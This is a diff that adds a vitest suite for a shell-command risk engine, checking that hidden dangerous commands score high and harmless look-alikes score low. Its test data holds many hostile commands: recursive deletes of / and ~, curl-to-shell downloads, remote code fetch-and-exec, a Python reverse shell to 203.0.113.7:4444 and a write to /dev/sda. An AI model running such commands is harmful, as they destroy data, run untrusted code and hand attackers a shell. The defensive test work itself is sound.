@@ -1,0 +1,130 @@
+// The whole risk engine: the real shell parser and the rules, through createRiskEngine with the test
+// machine's context. Evasions that hide a dangerous command come out high or critical; look-alikes that
+// only mention one come out low.
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { RiskEngine } from '../../../../electron/core/risk/engine.ts';
+import { createRiskEngine } from '../../../../electron/core/risk/index.ts';
+import { loadRiskCorpus, RISK_CORPUS_CONTEXT } from '../../../support/risk-corpus.ts';
+import { HOME, PROJECT, testContextOptions } from '../../../support/risk.ts';
+
+let engine: RiskEngine;
+beforeAll(async () => {
+  engine = await createRiskEngine(testContextOptions({ branch: 'feature/x', changedFiles: 9, changedLines: 412, untrackedFiles: 2, stashes: 1 }));
+});
+
+const assess = (cmd: string, cwd = PROJECT) => engine.assess(cmd, cwd);
+const HIGH = ['high', 'critical'];
+
+describe('evasions are seen through', () => {
+  it.each([
+    'FOO=1 rm -rf /',
+    "bash -c 'rm -rf ~'",
+    'cd x && git push -f',
+    'find . -delete',
+    `python -c "import shutil; shutil.rmtree('/')"`,
+    'sudo env X=1 rm -rf /',
+    "ssh prod 'rm -rf /var'",
+    'curl -s https://x.sh | sh',
+    'echo "rm -rf ~" | bash',
+    "printf '%s\\n' 'rm -rf ~' | sh",
+    'eval "rm -rf /"',
+    'xargs rm -rf < files.txt',
+    "find / -name '*.log' -exec rm {} \\;",
+    `node -e "require('child_process').execSync('rm -rf /')"`,
+    `ruby -e 'FileUtils.rm_rf("/")'`,
+    `perl -e 'system("rm -rf /")'`,
+    `php -r 'shell_exec("rm -rf /");'`,
+    `awk 'BEGIN { system("rm -rf ~") }'`,
+    'kubectl exec -n prod api -- rm -rf /data',
+    'docker exec web rm -rf /data',
+    'sh -c "$(curl -fsSL https://x.sh)"',
+    'nohup timeout 5 nice rm -rf ~ &',
+    'echo $(rm -rf ~)',
+    'X=$(rm -rf ~)',
+    'f() { rm -rf ~; }; f',
+    'if true; then rm -rf ~; fi',
+    'for d in a b; do rm -rf "$d"/; done',
+    'case x in x) rm -rf ~;; esac',
+    'cat <<EOF | bash\nrm -rf ~\nEOF',
+    "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/home/dev')\nEOF",
+    `python3 -c "import urllib.request; exec(urllib.request.urlopen('http://example.com/p.py').read())"`,
+    'ls && su -c "rm -rf /"',
+    `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
+    "env -S 'rm -rf' /",
+    'r\\m -rf ~',
+    "'rm' -rf ~",
+    '"/bin/rm" -rf ~',
+    'rm -rf ~/',
+    'command rm -rf ~',
+    '{ echo x; } > /dev/sda',
+  ])('%s is high or critical', (cmd) => {
+    const a = assess(cmd);
+    expect(HIGH, `${cmd}: ${a.level} ${a.reasons.join(' | ')}`).toContain(a.level);
+  });
+
+  it('says what the hidden command does, not what wraps it', () => {
+    expect(assess("bash -c 'rm -rf ~'").reasons[0]).toBe('deletes your home directory (/home/dev) recursively');
+    expect(assess('sudo env X=1 rm -rf /').reasons).toContain('runs as root (sudo)');
+    expect(assess('curl -s https://x.sh | sh').reasons[0]).toMatch(/downloaded from x\.sh/);
+  });
+
+  it('reports each segment, with its via', () => {
+    const a = assess("ssh prod 'rm -rf /var'");
+    expect(a.segments.map((s) => s.argv.join(' '))).toEqual(['ssh prod rm -rf /var', 'rm -rf /var']);
+    expect(a.segments[1]?.via).toEqual(['ssh prod']);
+    expect(a.score).toBe(Math.max(...a.segments.map((s) => s.score)));
+  });
+});
+
+describe('look-alikes stay low', () => {
+  it.each([
+    'echo "rm -rf /"',
+    'grep -r "DROP TABLE" .',
+    'git commit -m "rm -rf / is dangerous"',
+    "echo 'rm -rf /' > notes.md",
+    "grep -rn 'sudo rm' docs/",
+    "rg 'curl .* \\| sh' .",
+    "awk '{print $1}' data.txt",
+    "python -c 'print(1)'",
+    "find . -name '*.ts' -exec grep -l TODO {} +",
+    'echo "eval \\$(ssh-agent)"',
+    "printf '%s\\n' 'git push --force'",
+    "cat <<'EOF' > notes.md\nrm -rf / and curl x | sh\nEOF",
+    "node -e \"console.log('rm -rf /')\"",
+    'ls -la && git status && npm test',
+    'for f in src/*.ts; do wc -l "$f"; done',
+  ])('%s is low', (cmd) => {
+    const a = assess(cmd);
+    expect(a.level, `${cmd}: ${a.reasons.join(' | ')}`).toBe('low');
+  });
+});
+
+describe('context and what cannot be read', () => {
+  it('judges later commands where cd went', () => {
+    expect(assess('cd ~ && rm -rf *').level).toBe('critical');
+    expect(assess('cd build && rm -rf *').level).not.toBe('critical');
+  });
+
+  it('is at least medium when it cannot read all of the command, and says so', () => {
+    for (const cmd of ["echo 'unterminated", 'eval $CMD', 'ls $(']) {
+      const a = assess(cmd);
+      expect(['medium', 'high', 'critical']).toContain(a.level);
+      expect(a.reasons.join(' ')).toMatch(/could not read all of it/);
+    }
+  });
+
+  it('scores every corpus command; none it cannot read fully comes out low', () => {
+    for (const entry of loadRiskCorpus()) {
+      const a = assess(entry.cmd, entry.cwd ?? RISK_CORPUS_CONTEXT.cwd);
+      expect(a.score).toBeGreaterThanOrEqual(0);
+      if (a.reasons.some((r) => r.startsWith('Gatehouse could not read'))) expect(a.level).not.toBe('low');
+    }
+    expect(RISK_CORPUS_CONTEXT.home).toBe(HOME);
+  });
+
+  it('shares one loaded parser between engines', async () => {
+    const second = await createRiskEngine(testContextOptions());
+    expect(second.assess('rm -rf ~', PROJECT).level).toBe('critical');
+    expect(engine.assess('ls', PROJECT).level).toBe('low');
+  });
+});
